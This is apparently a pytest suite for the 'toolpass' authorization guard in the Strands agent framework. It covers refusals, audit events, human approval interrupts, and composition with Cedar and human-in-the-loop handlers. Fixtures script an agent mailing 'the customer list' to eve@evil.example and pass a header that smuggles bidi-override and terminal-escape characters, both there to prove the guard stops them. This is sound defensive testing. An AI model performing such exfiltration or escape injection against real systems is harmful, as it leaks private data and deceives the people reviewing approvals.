"""What the intervention does in Strands' real loop beyond the shared suite: the refusal text
read once, one audit event per call, every failure of the guard refusing (without its text),
the tool's own errors left as Strands shows them, approvals through Strands' interrupt, and
composition with Strands' own Cedar and human-in-the-loop handlers in either order."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from pytest_toolpass import ScriptedEngine
from strands import Agent, tool
from strands.types.exceptions import EventLoopException
from strands.vended_interventions.cedar import CedarAuthorization
from strands.vended_interventions.hitl import HumanInTheLoop
from strands_script import ScriptedModel, read_back, results
from toolpass import ApprovalQueue, AuditEvent, Decision, Toolkit, ToolRefused
from toolpass.adapting import Traits
from toolpass.strands import APPROVAL, Rule, ToolpassAuthorization

DANA, ERIN = "dana@example.com", "erin@example.com"
DELETE = Rule("jira", "DELETE_ISSUES", "issue:{key}")
MAY_DELETE = {(DANA, "DELETE_ISSUES", "issue:PAY-1"): Decision.allow()}


class Tools:
    """A recording tool set: what ran, and with which arguments."""

    def __init__(self) -> None:
        self.ran: list[tuple[str, dict[str, Any]]] = []

        @tool
        def delete_issue(key: str) -> str:
            """Delete an issue."""
            self.ran.append(("delete_issue", {"key": key}))
            return f"deleted {key}"

        @tool
        def read_file(path: str) -> str:
            """Read a file."""
            self.ran.append(("read_file", {"path": path}))
            return f"contents of {path}"

        @tool
        def explode(why: str) -> str:
            """Fails."""
            self.ran.append(("explode", {"why": why}))
            raise RuntimeError(f"internal detail: {why}")

        self.all = [delete_issue, read_file, explode]


def agent_for(
    tools: Tools,
    calls: list[tuple[str, dict[str, Any]]],
    interventions: list[Any],
) -> Agent:
    return Agent(
        model=ScriptedModel(calls),
        tools=tools.all,
        interventions=interventions,
        callback_handler=None,
    )


def delete(key: str = "PAY-1") -> list[tuple[str, dict[str, Any]]]:
    return [("delete_issue", {"key": key})]


def test_the_model_reads_the_refusal_once_exactly() -> None:
    engine = ScriptedEngine({(ERIN, "DELETE_ISSUES", "issue:PAY-1"): Decision.deny("no")})
    tools = Tools()
    agent = agent_for(tools, delete(), [ToolpassAuthorization(engine, {"delete_issue": DELETE})])
    agent("go", invocation_state={"user_id": ERIN})
    [result] = results(agent)
    assert result["status"] == "error"
    [text] = [part["text"] for part in result["content"]]
    assert text.startswith("Refused by toolpass (not_authorized): ")
    assert "DENIED" not in text
    assert text.count("Refused by toolpass") == 1
    assert tools.ran == []


@pytest.mark.parametrize(
    ("user", "key", "outcome"),
    [(DANA, "PAY-1", "ok"), (ERIN, "PAY-1", "refused"), (None, "PAY-1", "refused")],
)
def test_one_audit_event_per_call(user: str | None, key: str, outcome: str) -> None:
    events: list[AuditEvent] = []
    guard = ToolpassAuthorization(
        ScriptedEngine(MAY_DELETE), {"delete_issue": DELETE}, toolkit=Toolkit(audit=events.append)
    )
    tools = Tools()
    agent = agent_for(tools, [*delete(key), ("read_file", {"path": "a.md"})], [guard])
    agent("go", invocation_state={} if user is None else {"user_id": user})
    assert [(e.tool, e.outcome) for e in events] == [
        ("delete_issue", outcome),
        ("read_file", "refused" if user is None else "ok"),
    ]
    assert all(e.user == user for e in events)


def test_a_user_source_that_fails_refuses_without_its_text() -> None:
    def broken(event: Any) -> str:
        raise RuntimeError("secret connection string")

    events: list[AuditEvent] = []
    engine = ScriptedEngine(MAY_DELETE)
    guard = ToolpassAuthorization(
        engine, {"delete_issue": DELETE}, user=broken, toolkit=Toolkit(audit=events.append)
    )
    tools = Tools()
    agent = agent_for(tools, delete(), [guard])
    agent("go", invocation_state={"user_id": DANA})
    [text] = read_back(agent)
    assert "check_error" in text
    assert "secret" not in text
    assert tools.ran == []
    assert engine.asked == []
    [event] = events
    assert event.code == "check_error"
    assert "secret connection string" in (event.detail or "")


def test_a_user_that_is_not_a_string_refuses() -> None:
    tools = Tools()
    agent = agent_for(tools, delete(), [ToolpassAuthorization(ScriptedEngine(MAY_DELETE))])
    agent("go", invocation_state={"user_id": ["dana@example.com"]})
    assert "check_error" in read_back(agent)[0]
    assert tools.ran == []


def test_the_user_callable_is_given_the_event() -> None:
    seen: list[Any] = []

    def user(event: Any) -> str:
        seen.append(event)
        return str(event.invocation_state["account"]["email"])

    guard = ToolpassAuthorization(ScriptedEngine(MAY_DELETE), {"delete_issue": DELETE}, user=user)
    tools = Tools()
    agent = agent_for(tools, delete(), [guard])
    agent("go", invocation_state={"account": {"email": DANA}})
    assert tools.ran == [("delete_issue", {"key": "PAY-1"})]
    assert [e.tool_use["name"] for e in seen] == ["delete_issue"]


def test_a_failing_intervention_denies_without_its_text() -> None:
    """An invocation state that breaks when toolpass reads its invocation mark breaks the
    handler itself: Strands' Deny with the generic check_error reason, never the text."""

    class Hostile(dict[str, Any]):
        def get(self, key: str, default: Any = None) -> Any:
            if key.startswith("toolpass"):
                raise RuntimeError("secret detail")
            return super().get(key, default)

    events: list[AuditEvent] = []
    tools = Tools()
    engine = ScriptedEngine(MAY_DELETE)
    guard = ToolpassAuthorization(
        engine, {"delete_issue": DELETE}, toolkit=Toolkit(audit=events.append)
    )
    agent = agent_for(tools, delete(), [guard])
    agent("go", invocation_state=Hostile(user_id=DANA))
    [text] = read_back(agent)
    assert text.startswith("DENIED: Refused by toolpass (check_error)"), text
    assert "secret" not in text
    assert tools.ran == []
    assert engine.asked == []
    [event] = events
    assert event.code == "check_error"


def test_a_failing_on_refuse_still_refuses() -> None:
    def on_refuse(refused: ToolRefused) -> str:
        raise RuntimeError("oops")

    engine = ScriptedEngine({(ERIN, "DELETE_ISSUES", "issue:PAY-1"): Decision.deny("no")})
    tools = Tools()
    guard = ToolpassAuthorization(engine, {"delete_issue": DELETE}, on_refuse=on_refuse)
    agent = agent_for(tools, delete(), [guard])
    agent("go", invocation_state={"user_id": ERIN})
    assert read_back(agent)[0].startswith("Refused by toolpass (not_authorized)")
    assert tools.ran == []


def test_on_refuse_shapes_the_text() -> None:
    engine = ScriptedEngine({(ERIN, "DELETE_ISSUES", "issue:PAY-1"): Decision.deny("no")})
    tools = Tools()
    guard = ToolpassAuthorization(
        engine, {"delete_issue": DELETE}, on_refuse=lambda r: f"[{r.code}]"
    )
    agent = agent_for(tools, delete(), [guard])
    agent("go", invocation_state={"user_id": ERIN})
    assert read_back(agent) == ["[not_authorized]"]


@pytest.mark.parametrize("mode", ["sync", "async"])
def test_on_refuse_none_ends_the_run(mode: str) -> None:
    tools = Tools()
    guard = ToolpassAuthorization(ScriptedEngine(), {"delete_issue": DELETE}, on_refuse=None)
    agent = agent_for(tools, [*delete(), ("read_file", {"path": "a"})], [guard])

    def go() -> Any:
        if mode == "sync":
            return agent("go", invocation_state={"user_id": ERIN})
        return asyncio.run(agent.invoke_async("go", invocation_state={"user_id": ERIN}))

    with pytest.raises(EventLoopException) as raised:
        go()
    assert isinstance(raised.value.__cause__, ToolRefused)
    assert raised.value.__cause__.code == "not_authorized"
    assert tools.ran == []


def test_a_tools_own_error_is_left_as_strands_shows_it_and_audited() -> None:
    events: list[AuditEvent] = []
    tools = Tools()
    guard = ToolpassAuthorization(ScriptedEngine(), toolkit=Toolkit(audit=events.append))
    agent = agent_for(tools, [("explode", {"why": "disk"})], [guard])
    assert str(agent("go", invocation_state={"user_id": DANA})).strip() == "done"
    [result] = results(agent)
    assert result["status"] == "error"
    assert result["content"] == [{"text": "Error: RuntimeError - internal detail: disk"}]
    [event] = events
    assert event.outcome == "error"
    assert "internal detail" in (event.detail or "")


def test_a_refusal_inside_the_body_reaches_the_model_with_its_code() -> None:
    kit = Toolkit(audit=[])

    @tool
    @kit.secured_tool(authorize=lambda call: False)
    def pay(amount: int) -> str:
        """Pay."""
        return "paid"

    agent = Agent(
        model=ScriptedModel([("pay", {"amount": 3})]),
        tools=[pay],
        interventions=[ToolpassAuthorization(ScriptedEngine(), toolkit=kit)],
        callback_handler=None,
    )
    agent("go", invocation_state={"user_id": DANA})
    [text] = read_back(agent)
    assert text.startswith("Refused by toolpass (not_authorized)"), text


def test_a_call_changed_after_the_handler_is_checked_as_it_runs() -> None:
    """A Transform listed after toolpass changes the input: toolpass checks the changed call,
    the one that runs."""
    from strands.interventions import InterventionHandler, Transform

    class Rewrite(InterventionHandler):
        name = "rewrite"

        def before_tool_call(self, event: Any, **kwargs: Any) -> Transform:
            def apply(e: Any) -> None:
                e.tool_use["input"] = {"key": "PAY-9"}

            return Transform(apply=apply)

    engine = ScriptedEngine(MAY_DELETE)
    tools = Tools()
    guard = ToolpassAuthorization(engine, {"delete_issue": DELETE})
    agent = agent_for(tools, delete("PAY-1"), [guard, Rewrite()])
    agent("go", invocation_state={"user_id": DANA})
    assert engine.asked == [(DANA, "jira", "DELETE_ISSUES", "issue:PAY-9")]
    assert tools.ran == []
    assert "not_authorized" in read_back(agent)[0]


# Approvals through Strands' interrupt.


def approving_agent(
    queue: ApprovalQueue, ran: list[int], *before: Any, events: list[AuditEvent] | None = None
) -> Agent:
    """An agent whose one tool always needs approval (a ``secured_tool`` of the adapter's
    toolkit, whose approver is ``queue``), with the handlers ``before`` listed first."""
    kit = Toolkit(approver=queue, audit=[] if events is None else events.append)

    @tool
    @kit.secured_tool(approve=True)
    def wire(amount: int) -> str:
        """Wire money."""
        ran.append(amount)
        return f"wired {amount}"

    return Agent(
        model=ScriptedModel([("wire", {"amount": 500})]),
        tools=[wire],
        interventions=[*before, ToolpassAuthorization(ScriptedEngine(), toolkit=kit)],
        callback_handler=None,
    )


def answer(agent: Agent, result: Any, response: Any, mode: str = "sync") -> Any:
    [ask] = [i for i in result.interrupts if i.name.startswith(APPROVAL)]
    reply = [{"interruptResponse": {"interruptId": ask.id, "response": response}}]
    if mode == "sync":
        return agent(reply, invocation_state={"user_id": DANA})
    return asyncio.run(agent.invoke_async(reply, invocation_state={"user_id": DANA}))


@pytest.mark.parametrize("mode", ["sync", "async"])
@pytest.mark.parametrize("response", [True, "y", "YES", {"approved": True, "by": "lee"}])
def test_an_approval_interrupts_the_run_and_the_call_runs_once_approved(
    mode: str, response: Any
) -> None:
    queue, ran = ApprovalQueue(), []
    agent = approving_agent(queue, ran)
    if mode == "sync":
        result = agent("go", invocation_state={"user_id": DANA})
    else:
        result = asyncio.run(agent.invoke_async("go", invocation_state={"user_id": DANA}))
    assert result.stop_reason == "interrupt"
    [ask] = result.interrupts
    assert ask.name == f"{APPROVAL}:{ask.reason['request_id']}"
    assert ask.reason["tool"] == "wire"
    assert ask.reason["user"] == DANA
    assert "amount = 500" in ask.reason["message"]
    assert [r.id for r in queue.pending()] == [ask.reason["request_id"]]
    assert ran == []
    done = answer(agent, result, response, mode)
    assert done.stop_reason == "end_turn"
    assert ran == [500]
    assert read_back(agent) == ["wired 500"]
    assert queue.pending() == []


def test_an_approved_call_is_audited_as_asked_then_run() -> None:
    queue, ran, events = ApprovalQueue(), [], []
    agent = approving_agent(queue, ran, events=events)
    result = agent("go", invocation_state={"user_id": DANA})
    answer(agent, result, {"approved": True, "by": "lee"})
    # One event for the call that waited (the adapter's check and the tool's own), then one
    # for the call that ran.
    outcomes = [(e.tool, e.outcome, e.code) for e in events]
    assert outcomes == [("wire", "refused", "approval_pending"), ("wire", "ok", None)]
    assert events[1].approval_id == result.interrupts[0].reason["request_id"]
    assert events[1].approved_by == "lee"


@pytest.mark.parametrize("response", [False, "n", None, {"approved": False, "by": "lee"}])
def test_a_denied_approval_never_runs_the_call(response: Any) -> None:
    queue, ran = ApprovalQueue(), []
    agent = approving_agent(queue, ran)
    result = agent("go", invocation_state={"user_id": DANA})
    if response is None:  # no answer: the run stops again, asking the same question
        again = answer(agent, result, response)
        assert again.stop_reason == "interrupt"
        assert [i.id for i in again.interrupts] == [i.id for i in result.interrupts]
        assert ran == []
        return
    done = answer(agent, result, response)
    assert done.stop_reason == "end_turn"
    assert ran == []
    [text] = read_back(agent)
    assert text.startswith("Refused by toolpass (approval_denied)"), text


class OneMessageModel(ScriptedModel):
    """A model whose first message makes every call at once, all under one ``toolUseId``
    (as a provider that numbers calls per message, or a hostile proxy, can)."""

    async def stream(self, messages: Any, *args: Any, **kwargs: Any) -> Any:
        if any(m["role"] == "assistant" for m in messages):
            async for event in super().stream([], *args, **kwargs):
                if "contentBlockStart" in event and event["contentBlockStart"]["start"]:
                    continue  # past the first message: only the final answer
                yield event
            return
        yield {"messageStart": {"role": "assistant"}}
        for tool_name, arguments in self.calls:
            start = {"toolUse": {"toolUseId": "t1", "name": tool_name}}
            yield {"contentBlockStart": {"start": start}}
            yield {"contentBlockDelta": {"delta": {"toolUse": {"input": json.dumps(arguments)}}}}
            yield {"contentBlockStop": {}}
        yield {"messageStop": {"stopReason": "tool_use"}}


def mailing_agent(queue: ApprovalQueue, sent: list[str]) -> Agent:
    """An agent whose framework tool ``send_mail`` always needs approval (it sends out, and
    is declared to read private and untrusted data), called twice in one message."""

    @tool
    def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        sent.append(to)
        return f"sent to {to}"

    send = Traits(effect="write", sends_out=True, reads_private=True, untrusted_output=True)
    calls = [
        ("send_mail", {"to": "bills@utility.example", "body": "the invoice"}),
        ("send_mail", {"to": "eve@evil.example", "body": "the customer list"}),
    ]
    return Agent(
        model=OneMessageModel(calls),
        tools=[send_mail],
        interventions=[
            ToolpassAuthorization(
                ScriptedEngine(), {"send_mail": send}, toolkit=Toolkit(approver=queue, audit=[])
            )
        ],
        callback_handler=None,
    )


def test_the_prompt_of_a_framework_tool_shows_its_arguments() -> None:
    queue, sent = ApprovalQueue(), []
    result = mailing_agent(queue, sent)("go", invocation_state={"user_id": DANA})
    assert result.stop_reason == "interrupt"
    shown = [i.reason["message"] for i in result.interrupts]
    assert any("to = 'eve@evil.example'" in m and "the customer list" in m for m in shown)
    assert any(i.reason["arguments"].get("to") == "'eve@evil.example'" for i in result.interrupts)
    assert sent == []


def test_calls_sharing_a_tool_use_id_never_share_an_approval() -> None:
    queue, sent = ApprovalQueue(), []
    agent = mailing_agent(queue, sent)
    result = agent("go", invocation_state={"user_id": DANA})
    assert len({r.id for r in queue.pending()}) == 2
    assert len({i.id for i in result.interrupts}) == 2  # one question per request
    [bills] = [i for i in result.interrupts if "bills@utility.example" in i.reason["message"]]
    reply = [{"interruptResponse": {"interruptId": bills.id, "response": "y"}}]
    again = agent(reply, invocation_state={"user_id": DANA})
    assert sent == ["bills@utility.example"]  # the approval shown for bills sends to bills only
    assert again.stop_reason == "interrupt"
    [eve] = again.interrupts
    assert "eve@evil.example" in eve.reason["message"]
    assert [r.arguments["to"] for r in queue.pending()] == ["eve@evil.example"]


def test_an_answer_naming_the_calls_own_user_does_not_approve_it() -> None:
    queue, ran = ApprovalQueue(), []
    agent = approving_agent(queue, ran)
    result = agent("go", invocation_state={"user_id": DANA})
    answer(agent, result, {"approved": True, "by": DANA})
    assert ran == []
    assert "approval_pending" in read_back(agent)[0]
    assert [r.status for r in queue.pending()] == ["pending"]


def test_a_denial_carries_the_persons_reason() -> None:
    queue, ran = ApprovalQueue(), []
    agent = approving_agent(queue, ran)
    result = agent("go", invocation_state={"user_id": DANA})
    answer(agent, result, {"approved": False, "by": "lee", "reason": "over budget"})
    assert ran == []
    assert "over budget" in read_back(agent)[0]


def test_a_decision_made_in_the_queue_before_resuming_stands() -> None:
    queue, ran = ApprovalQueue(), []
    agent = approving_agent(queue, ran)
    result = agent("go", invocation_state={"user_id": DANA})
    [request] = queue.pending()
    queue.deny(request.id, by="lee", reason="no")
    answer(agent, result, "y")  # the interrupt's answer does not overturn the queue's
    assert ran == []
    assert "approval_denied" in read_back(agent)[0]


# Strands' own handlers, in either order: the most restrictive wins.

CEDAR_PERMITS = "permit(principal, action, resource);"
CEDAR_FORBIDS_DELETE = 'forbid(principal, action == Action::"delete_issue", resource);'


def cedar(policies: str) -> CedarAuthorization:
    return CedarAuthorization(
        policies=f"{CEDAR_PERMITS}\n{policies}",
        principal_resolver=lambda state: {"type": "User", "id": str(state.get("user_id"))},
    )


@pytest.mark.parametrize("first", ["toolpass", "cedar"])
@pytest.mark.parametrize(
    ("user", "policies", "runs", "read"),
    [
        (DANA, "", True, "deleted PAY-1"),  # both allow
        (ERIN, "", False, "Refused by toolpass (not_authorized)"),  # toolpass refuses
        (DANA, CEDAR_FORBIDS_DELETE, False, "DENIED: Access denied by Cedar policy"),
    ],
)
def test_cedar_and_toolpass_compose_in_either_order(
    first: str, user: str, policies: str, runs: bool, read: str
) -> None:
    engine = ScriptedEngine(MAY_DELETE)
    tools = Tools()
    handlers: list[Any] = [ToolpassAuthorization(engine, {"delete_issue": DELETE}), cedar(policies)]
    if first == "cedar":
        handlers.reverse()
    agent = agent_for(tools, delete(), handlers)
    agent("go", invocation_state={"user_id": user})
    assert (tools.ran != []) is runs
    assert read_back(agent)[0].startswith(read), read_back(agent)
    if policies:  # a call Cedar denies never reaches toolpass: nothing asked, nothing spent
        assert engine.asked == []


@pytest.mark.parametrize("first", ["toolpass", "hitl"])
@pytest.mark.parametrize(
    ("user", "response", "runs", "read"),
    [
        (DANA, "y", True, "deleted PAY-1"),
        (DANA, "n", False, "CONFIRMATION_FAILED"),
        (ERIN, "y", False, "Refused by toolpass (not_authorized)"),
    ],
)
def test_human_in_the_loop_and_toolpass_compose_in_either_order(
    first: str, user: str, response: str, runs: bool, read: str
) -> None:
    engine = ScriptedEngine(MAY_DELETE)
    tools = Tools()
    handlers: list[Any] = [
        ToolpassAuthorization(engine, {"delete_issue": DELETE}),
        HumanInTheLoop(),
    ]
    if first == "hitl":
        handlers.reverse()
    agent = agent_for(tools, delete(), handlers)
    result = agent("go", invocation_state={"user_id": user})
    assert result.stop_reason == "interrupt"
    assert tools.ran == []
    assert engine.asked == []  # nothing decided, nothing spent while a person is asked
    [ask] = result.interrupts
    reply = [{"interruptResponse": {"interruptId": ask.id, "response": response}}]
    agent(reply, invocation_state={"user_id": user})
    assert (tools.ran != []) is runs
    assert read_back(agent)[0].startswith(read), read_back(agent)
    assert len(engine.asked) == (0 if response == "n" else 1)


def test_toolpass_approval_and_human_in_the_loop_both_ask() -> None:
    queue, ran = ApprovalQueue(), []
    agent = approving_agent(queue, ran, HumanInTheLoop())
    result = agent("go", invocation_state={"user_id": DANA})
    [ask] = result.interrupts
    assert ask.name == "strands:human-in-the-loop"
    result = agent(
        [{"interruptResponse": {"interruptId": ask.id, "response": "y"}}],
        invocation_state={"user_id": DANA},
    )
    assert [i.name.partition(":")[0] for i in result.interrupts] == [APPROVAL]
    assert ran == []
    answer(agent, result, "y")
    assert ran == [500]


class TwoAtOnce(ScriptedModel):
    """Asks for every scripted call in one response (Strands runs them concurrently)."""

    async def stream(
        self, messages: Any, tool_specs: Any = None, system_prompt: Any = None, **kwargs: Any
    ) -> Any:
        yield {"messageStart": {"role": "assistant"}}
        if len(messages) == 1:
            for n, (name, arguments) in enumerate(self.calls):
                start = {"toolUse": {"toolUseId": f"c{n}", "name": name}}
                yield {"contentBlockStart": {"start": start}}
                delta = {"toolUse": {"input": json.dumps(arguments)}}
                yield {"contentBlockDelta": {"delta": delta}}
                yield {"contentBlockStop": {}}
            yield {"messageStop": {"stopReason": "tool_use"}}
            return
        yield {"contentBlockStart": {"start": {}}}
        yield {"contentBlockDelta": {"delta": {"text": "done"}}}
        yield {"contentBlockStop": {}}
        yield {"messageStop": {"stopReason": "end_turn"}}


def test_calls_made_together_are_each_checked() -> None:
    engine = ScriptedEngine(MAY_DELETE)
    tools = Tools()
    agent = Agent(
        model=TwoAtOnce([("delete_issue", {"key": "PAY-1"}), ("delete_issue", {"key": "PAY-2"})]),
        tools=tools.all,
        interventions=[ToolpassAuthorization(engine, {"delete_issue": DELETE})],
        callback_handler=None,
    )
    agent("go", invocation_state={"user_id": DANA})
    by_id = {r["toolUseId"]: r["content"][0]["text"] for r in results(agent)}
    assert by_id["c0"] == "deleted PAY-1"
    assert by_id["c1"].startswith("Refused by toolpass (not_authorized)")
    assert tools.ran == [("delete_issue", {"key": "PAY-1"})]


def test_a_streaming_tools_events_are_passed_on_and_its_last_value_is_the_result() -> None:
    @tool
    async def count(upto: int) -> Any:
        """Count."""
        for n in range(1, upto + 1):
            yield f"at {n}"

    streamed: list[Any] = []

    def callback(**event: Any) -> None:
        if "tool_stream_event" in event:
            streamed.append(event["tool_stream_event"]["data"])

    agent = Agent(
        model=ScriptedModel([("count", {"upto": 3})]),
        tools=[count],
        interventions=[ToolpassAuthorization(ScriptedEngine())],
        callback_handler=callback,
    )
    agent("go", invocation_state={"user_id": DANA})
    assert streamed == ["at 1", "at 2", "at 3"]
    assert read_back(agent) == ["at 3"]


def test_the_interrupt_shows_no_secret_and_no_invisible_character() -> None:
    """What an application shows of the interrupt (its message, preview and arguments) holds
    neither a credential the call carries nor a bidi override or terminal escape."""
    queue, sent = ApprovalQueue(), []

    @tool
    def post(url: str, headers: dict[str, str]) -> str:
        """Post to a URL."""
        sent.append(url)
        return "posted"

    headers = {"Authorization": "Basic ZGFuYTpodW50ZXIy", "X-Note": "ok\u202e\x1b[2K"}
    send = Traits(effect="write", sends_out=True, reads_private=True, untrusted_output=True)
    agent = Agent(
        model=OneMessageModel([("post", {"url": "https://hooks.example/x", "headers": headers})]),
        tools=[post],
        interventions=[
            ToolpassAuthorization(
                ScriptedEngine(), {"post": send}, toolkit=Toolkit(approver=queue, audit=[])
            )
        ],
        callback_handler=None,
    )
    result = agent("go", invocation_state={"user_id": DANA})
    [ask] = result.interrupts
    shown = json.dumps(ask.reason, ensure_ascii=False)
    assert "ZGFuYTpodW50ZXIy" not in shown
    assert "\u202e" not in shown
    assert "\x1b" not in shown
    assert "https://hooks.example/x" in ask.reason["arguments"]["url"]
    assert sent == []
